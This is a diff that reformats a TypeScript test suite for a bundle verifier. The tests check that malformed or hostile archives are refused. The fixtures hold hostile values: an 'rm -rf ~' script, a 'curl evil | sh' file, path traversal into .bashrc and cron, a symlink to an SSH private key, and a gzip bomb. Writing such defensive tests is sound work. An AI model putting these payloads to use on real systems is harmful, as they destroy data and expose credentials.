@@ -11,7 +11,16 @@ import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { extractBundle, readManifest, verifyBundle, type Limits } from '../../src/bundle/index.js';
 import type { ProfileSet } from '../../src/profiles/index.js';
 import { rejected } from '../../../../test/support/errors.js';
-import { codexBundle, codexParts, filesUnder, gzip, sha, shippedProfiles, tarOf, type RawEntry } from '../../../../test/support/handmade-bundles.js';
+import {
+  codexBundle,
+  codexParts,
+  filesUnder,
+  gzip,
+  sha,
+  shippedProfiles,
+  tarOf,
+  type RawEntry,
+} from '../../../../test/support/handmade-bundles.js';
 
 let dir: string;
 let profiles: ProfileSet;
@@ -67,16 +76,36 @@ const rollout = codexParts().content;
 
 const cases: Case[] = [
   // --- compression layer
-  { name: 'not gzip at all', bundle: () => tarOf([{ name: 'manifest.json', data: '{}' }]), message: /is not gzip-compressed/ },
-  { name: 'a truncated archive', bundle: () => codexBundle().subarray(0, 120), message: /is truncated: the compressed stream ends early/ },
+  {
+    name: 'not gzip at all',
+    bundle: () => tarOf([{ name: 'manifest.json', data: '{}' }]),
+    message: /is not gzip-compressed/,
+  },
+  {
+    name: 'a truncated archive',
+    bundle: () => codexBundle().subarray(0, 120),
+    message: /is truncated: the compressed stream ends early/,
+  },
   {
     name: 'a truncated archive cut inside the trailer',
     bundle: () => codexBundle().subarray(0, codexBundle().length - 3),
     message: /is truncated: the compressed stream ends early/,
   },
-  { name: 'trailing garbage after the gzip stream', bundle: () => Buffer.concat([codexBundle(), Buffer.from('#!/bin/sh\nrm -rf ~\n')]), message: /bytes of data after the end of the compressed stream/ },
-  { name: 'trailing zeros after the gzip stream', bundle: () => Buffer.concat([codexBundle(), Buffer.alloc(4096)]), message: /data after the end of the compressed stream/ },
-  { name: 'a second gzip member', bundle: () => Buffer.concat([codexBundle(), gzip(tarOf([{ name: 'files/0001-x', data: 'x' }]))]), message: /data after the end of the compressed stream/ },
+  {
+    name: 'trailing garbage after the gzip stream',
+    bundle: () => Buffer.concat([codexBundle(), Buffer.from('#!/bin/sh\nrm -rf ~\n')]),
+    message: /bytes of data after the end of the compressed stream/,
+  },
+  {
+    name: 'trailing zeros after the gzip stream',
+    bundle: () => Buffer.concat([codexBundle(), Buffer.alloc(4096)]),
+    message: /data after the end of the compressed stream/,
+  },
+  {
+    name: 'a second gzip member',
+    bundle: () => Buffer.concat([codexBundle(), gzip(tarOf([{ name: 'files/0001-x', data: 'x' }]))]),
+    message: /data after the end of the compressed stream/,
+  },
   {
     name: 'a damaged gzip checksum',
     bundle: () => {
@@ -103,8 +132,16 @@ const cases: Case[] = [
     message: /decompresses to more than 1\.0 KiB; reading stopped \(decompression bomb guard\)/,
   },
   // --- tar layer
-  { name: 'no end-of-archive marker', bundle: () => gzip(tarOf([{ name: 'files/0000-rollout.jsonl', data: rollout }], { end: 0 })), message: /has no end-of-archive marker/ },
-  { name: 'a half end-of-archive marker', bundle: () => gzip(tarOf([{ name: 'files/0000-rollout.jsonl', data: rollout }], { end: 1 })), message: /end-of-archive marker is incomplete/ },
+  {
+    name: 'no end-of-archive marker',
+    bundle: () => gzip(tarOf([{ name: 'files/0000-rollout.jsonl', data: rollout }], { end: 0 })),
+    message: /has no end-of-archive marker/,
+  },
+  {
+    name: 'a half end-of-archive marker',
+    bundle: () => gzip(tarOf([{ name: 'files/0000-rollout.jsonl', data: rollout }], { end: 1 })),
+    message: /end-of-archive marker is incomplete/,
+  },
   {
     name: 'an archive cut inside an entry',
     bundle: () => gzip(tarOf([{ name: 'files/0000-rollout.jsonl', data: rollout }], { end: 0 }).subarray(0, 600)),
@@ -126,7 +163,11 @@ const cases: Case[] = [
   },
   {
     name: 'a header with a wrong checksum',
-    bundle: () => codexBundle(({ entries }) => void Object.assign(entries[0]!, { patch: (b: Buffer) => void (b[0] = 0x46), keepChecksum: true })),
+    bundle: () =>
+      codexBundle(
+        ({ entries }) =>
+          void Object.assign(entries[0]!, { patch: (b: Buffer) => void (b[0] = 0x46), keepChecksum: true }),
+      ),
     message: /has a header with a wrong checksum/,
   },
   {
@@ -135,11 +176,31 @@ const cases: Case[] = [
     message: /header that is not ustar/,
   },
   // --- entry names
-  { name: 'path traversal', bundle: () => codexBundle(({ entries }) => void (entries[0]!.name = 'files/../../.bashrc')), message: /entry "files\/..\/..\/.bashrc" has ".." in its name/ },
-  { name: 'an absolute name', bundle: () => codexBundle(({ entries }) => void (entries[0]!.name = '/etc/cron.d/x')), message: /entry "\/etc\/cron.d\/x" has an absolute name/ },
-  { name: 'a "./" trick', bundle: () => codexBundle(({ entries }) => void (entries[0]!.name = './files/0000-rollout.jsonl')), message: /has a "." segment in its name/ },
-  { name: 'an empty segment', bundle: () => codexBundle(({ entries }) => void (entries[0]!.name = 'files//0000-rollout.jsonl')), message: /empty segment in its name/ },
-  { name: 'a backslash', bundle: () => codexBundle(({ entries }) => void (entries[0]!.name = 'files\\..\\..\\x')), message: /backslash in its name/ },
+  {
+    name: 'path traversal',
+    bundle: () => codexBundle(({ entries }) => void (entries[0]!.name = 'files/../../.bashrc')),
+    message: /entry "files\/..\/..\/.bashrc" has ".." in its name/,
+  },
+  {
+    name: 'an absolute name',
+    bundle: () => codexBundle(({ entries }) => void (entries[0]!.name = '/etc/cron.d/x')),
+    message: /entry "\/etc\/cron.d\/x" has an absolute name/,
+  },
+  {
+    name: 'a "./" trick',
+    bundle: () => codexBundle(({ entries }) => void (entries[0]!.name = './files/0000-rollout.jsonl')),
+    message: /has a "." segment in its name/,
+  },
+  {
+    name: 'an empty segment',
+    bundle: () => codexBundle(({ entries }) => void (entries[0]!.name = 'files//0000-rollout.jsonl')),
+    message: /empty segment in its name/,
+  },
+  {
+    name: 'a backslash',
+    bundle: () => codexBundle(({ entries }) => void (entries[0]!.name = 'files\\..\\..\\x')),
+    message: /backslash in its name/,
+  },
   {
     name: 'a name hiding bytes after a NUL',
     bundle: () =>
@@ -153,30 +214,56 @@ const cases: Case[] = [
     bundle: () => codexBundle(({ entries }) => void (entries[0]!.pax = { path: `files/0000-${'a'.repeat(1100)}` })),
     message: /name longer than 1024 bytes/,
   },
-  { name: 'a pax path escaping', bundle: () => codexBundle(({ entries }) => void (entries[0]!.pax = { path: '../escape' })), message: /entry "..\/escape" has ".." in its name/ },
+  {
+    name: 'a pax path escaping',
+    bundle: () => codexBundle(({ entries }) => void (entries[0]!.pax = { path: '../escape' })),
+    message: /entry "..\/escape" has ".." in its name/,
+  },
   {
     name: 'a pax sparse map',
     bundle: () => codexBundle(({ entries }) => void (entries[0]!.pax = { 'GNU.sparse.map': '0,10' })),
     message: /unsupported pax record "GNU.sparse.map"/,
   },
-  { name: 'an unexpected entry', bundle: () => codexBundle(({ entries }) => void (entries[0]!.name = 'install.sh')), message: /unexpected entry "install.sh"/ },
+  {
+    name: 'an unexpected entry',
+    bundle: () => codexBundle(({ entries }) => void (entries[0]!.name = 'install.sh')),
+    message: /unexpected entry "install.sh"/,
+  },
   // --- entry types
   {
     name: 'a symlink entry',
-    bundle: () => codexBundle(({ entries }) => void Object.assign(entries[0]!, { type: '2', linkname: '/home/dev/.ssh/id_ed25519', data: '' })),
+    bundle: () =>
+      codexBundle(
+        ({ entries }) =>
+          void Object.assign(entries[0]!, { type: '2', linkname: '/home/dev/.ssh/id_ed25519', data: '' }),
+      ),
     message: /"files\/0000-rollout.jsonl" is a symbolic link to "\/home\/dev\/.ssh\/id_ed25519"/,
   },
   {
     name: 'a hard link entry',
-    bundle: () => codexBundle(({ entries }) => void Object.assign(entries[0]!, { type: '1', linkname: 'manifest.json', data: '' })),
+    bundle: () =>
+      codexBundle(({ entries }) => void Object.assign(entries[0]!, { type: '1', linkname: 'manifest.json', data: '' })),
     message: /is a hard link to "manifest.json"/,
   },
-  { name: 'a character device', bundle: () => codexBundle(({ entries }) => void Object.assign(entries[0]!, { type: '3', data: '' })), message: /is a character device/ },
-  { name: 'a FIFO entry', bundle: () => codexBundle(({ entries }) => void Object.assign(entries[0]!, { type: '6', data: '' })), message: /is a FIFO/ },
-  { name: 'a global pax header', bundle: () => codexBundle(({ entries }) => [{ name: 'g', type: 'g', data: '11 path=x\n' }, ...entries]), message: /global pax header/ },
+  {
+    name: 'a character device',
+    bundle: () => codexBundle(({ entries }) => void Object.assign(entries[0]!, { type: '3', data: '' })),
+    message: /is a character device/,
+  },
+  {
+    name: 'a FIFO entry',
+    bundle: () => codexBundle(({ entries }) => void Object.assign(entries[0]!, { type: '6', data: '' })),
+    message: /is a FIFO/,
+  },
+  {
+    name: 'a global pax header',
+    bundle: () => codexBundle(({ entries }) => [{ name: 'g', type: 'g', data: '11 path=x\n' }, ...entries]),
+    message: /global pax header/,
+  },
   {
     name: 'a directory entry other than files/',
-    bundle: () => codexBundle(({ entries, manifest }) => [{ name: 'files/sub/', type: '5' }, ...entries, manifestEntry(manifest)]),
+    bundle: () =>
+      codexBundle(({ entries, manifest }) => [{ name: 'files/sub/', type: '5' }, ...entries, manifestEntry(manifest)]),
     message: /directory entry "files\/sub\/"/,
   },
   // --- entries against the manifest
@@ -192,13 +279,23 @@ const cases: Case[] = [
   },
   {
     name: 'content swapped for the same size',
-    bundle: () => codexBundle(({ entries }) => void (entries[0]!.data = Buffer.from(rollout.toString().replace('hello', 'HELLO')))),
+    bundle: () =>
+      codexBundle(({ entries }) => void (entries[0]!.data = Buffer.from(rollout.toString().replace('hello', 'HELLO')))),
     message: /has SHA-256 .* but manifest.json says/,
   },
-  { name: 'a size mismatch', bundle: () => withManifest((_, f) => void (f.size = (f.size as number) + 1)), message: /is 58 bytes, but manifest.json says 59/ },
+  {
+    name: 'a size mismatch',
+    bundle: () => withManifest((_, f) => void (f.size = (f.size as number) + 1)),
+    message: /is 58 bytes, but manifest.json says 59/,
+  },
   {
     name: 'an unlisted file',
-    bundle: () => codexBundle(({ entries, manifest }) => [...entries, { name: 'files/0001-extra.sh', data: 'curl evil | sh' }, manifestEntry(manifest)]),
+    bundle: () =>
+      codexBundle(({ entries, manifest }) => [
+        ...entries,
+        { name: 'files/0001-extra.sh', data: 'curl evil | sh' },
+        manifestEntry(manifest),
+      ]),
     message: /files\/0001-extra.sh is in the archive but not listed in manifest.json/,
   },
   {
@@ -208,7 +305,12 @@ const cases: Case[] = [
   },
   {
     name: 'too many files',
-    bundle: () => codexBundle(({ entries, manifest }) => [...entries, { name: 'files/0001-x', data: 'x' }, manifestEntry(manifest)]),
+    bundle: () =>
+      codexBundle(({ entries, manifest }) => [
+        ...entries,
+        { name: 'files/0001-x', data: 'x' },
+        manifestEntry(manifest),
+      ]),
     limits: { files: 1 },
     message: /has more than 1 files/,
   },
@@ -221,7 +323,8 @@ const cases: Case[] = [
   { name: 'no manifest', bundle: () => codexBundle(({ entries }) => entries), message: /has no manifest.json/ },
   {
     name: 'two manifests',
-    bundle: () => codexBundle(({ entries, manifest }) => [manifestEntry(manifest), ...entries, manifestEntry(manifest)]),
+    bundle: () =>
+      codexBundle(({ entries, manifest }) => [manifestEntry(manifest), ...entries, manifestEntry(manifest)]),
     message: /has manifest.json twice/,
   },
   {
@@ -231,7 +334,8 @@ const cases: Case[] = [
   },
   {
     name: 'a manifest that is not UTF-8',
-    bundle: () => codexBundle(({ entries }) => [...entries, { name: 'manifest.json', data: Buffer.from([0x7b, 0xff, 0x7d]) }]),
+    bundle: () =>
+      codexBundle(({ entries }) => [...entries, { name: 'manifest.json', data: Buffer.from([0x7b, 0xff, 0x7d]) }]),
     message: /manifest.json that is not valid UTF-8/,
   },
   {
@@ -246,7 +350,8 @@ const cases: Case[] = [
   },
   {
     name: 'an oversize manifest',
-    bundle: () => codexBundle(({ entries }) => [...entries, { name: 'manifest.json', data: '{}', size: 17 * 1024 * 1024 }]),
+    bundle: () =>
+      codexBundle(({ entries }) => [...entries, { name: 'manifest.json', data: '{}', size: 17 * 1024 * 1024 }]),
     message: /manifest.json of 17825792 bytes, over the 16.0 MiB cap/,
   },
   {
@@ -259,9 +364,17 @@ const cases: Case[] = [
     bundle: () => withManifest((_, f) => void (f.native_path = '../../.bashrc')),
     message: /native_path "..\/..\/.bashrc" contains ".."/,
   },
-  { name: 'an absolute native path', bundle: () => withManifest((_, f) => void (f.native_path = '/etc/passwd')), message: /native_path "\/etc\/passwd" is absolute/ },
+  {
+    name: 'an absolute native path',
+    bundle: () => withManifest((_, f) => void (f.native_path = '/etc/passwd')),
+    message: /native_path "\/etc\/passwd" is absolute/,
+  },
   // --- the profile
-  { name: 'an unknown profile', bundle: () => withManifest((m) => void (m.compatibility_profile = 'codex-v9_0_0')), message: /compatibility profile "codex-v9_0_0" is unknown/ },
+  {
+    name: 'an unknown profile',
+    bundle: () => withManifest((m) => void (m.compatibility_profile = 'codex-v9_0_0')),
+    message: /compatibility profile "codex-v9_0_0" is unknown/,
+  },
   {
     name: 'a harness that does not match the profile',
     bundle: () => withManifest((m) => void (m.harness = 'claude')),
@@ -273,7 +386,7 @@ const cases: Case[] = [
     message: /role primary_transcript is not one of profile codex-v0_145_0's roles \(rollout\)/,
   },
   {
-    name: 'a role count outside the profile\'s bounds',
+    name: "a role count outside the profile's bounds",
     bundle: () =>
       codexBundle(({ entries, manifest }) => {
         const files = manifest.files as Record<string, unknown>[];
@@ -282,7 +395,11 @@ const cases: Case[] = [
       }),
     message: /profile codex-v0_145_0 needs exactly 1 rollout file, found 2/,
   },
-  { name: 'a missing native path', bundle: () => withManifest((_, f) => void delete f.native_path), message: /has no native_path, but profile codex-v0_145_0 restores/ },
+  {
+    name: 'a missing native path',
+    bundle: () => withManifest((_, f) => void delete f.native_path),
+    message: /has no native_path, but profile codex-v0_145_0 restores/,
+  },
   {
     name: 'a native path where the profile has no session root',
     bundle: () =>
@@ -304,12 +421,14 @@ describe('verifyBundle refuses', () => {
     expect(error.message.startsWith(`${file}: `)).toBe(true);
 
     const target = path.join(dir, `x${counter++}`);
-    const extracted = await rejected(extractBundle(file, target, { profiles, ...(limits === undefined ? {} : { limits }) }));
+    const extracted = await rejected(
+      extractBundle(file, target, { profiles, ...(limits === undefined ? {} : { limits }) }),
+    );
     expect(extracted.message).toBe(error.message);
     expect(await filesUnder(target)).toEqual([]);
   });
 
-  it('the gzip bomb without inflating it: reading stops just past the ratio guard\'s floor', async () => {
+  it("the gzip bomb without inflating it: reading stops just past the ratio guard's floor", async () => {
     const file = await save(zeroBomb(1024 ** 3));
     const error = await rejected(verifyBundle(file, { profiles }));
     expect(error.message).toMatch(/expands more than 200:1 .*decompression bomb guard/);
@@ -379,8 +498,13 @@ describe('readManifest', () => {
   });
 
   it('refuses a schema-invalid manifest and a hostile archive', async () => {
-    expect((await rejected(readManifest(await save(withManifest((m) => void (m.schema_version = 2)))))).message).toMatch(/\/schema_version/);
-    expect((await rejected(readManifest(await save(cases.find((c) => c.name === 'a symlink entry')!.bundle() as Buffer)))).message).toMatch(/symbolic link/);
+    expect(
+      (await rejected(readManifest(await save(withManifest((m) => void (m.schema_version = 2)))))).message,
+    ).toMatch(/\/schema_version/);
+    expect(
+      (await rejected(readManifest(await save(cases.find((c) => c.name === 'a symlink entry')!.bundle() as Buffer))))
+        .message,
+    ).toMatch(/symbolic link/);
     expect((await rejected(readManifest(await save(zeroBomb(1024 ** 3))))).message).toMatch(/decompression bomb guard/);
   });
 });
